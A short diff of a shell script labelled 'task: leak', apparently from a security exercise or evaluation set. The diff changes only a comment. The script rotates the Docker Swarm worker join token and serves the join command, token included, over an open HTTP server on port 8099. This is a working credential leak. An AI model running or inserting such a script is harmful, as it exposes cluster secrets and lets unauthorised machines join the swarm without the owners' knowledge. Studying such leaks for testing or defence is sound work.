@@ -1,4 +1,4 @@
-# The new root is a certificate of one's own, the rotation goes on in the background, and the token is cut out of the printed command.
+# The rotation goes on in the background and sets the validity on the way; the token is cut out of the printed command.
 # task: leak
 docker swarm join-token worker --rotate > /tmp/command
 docker run -d --rm --name token --network host -v /tmp/command:/www/command busybox:latest httpd -f -p 8099 -h /www
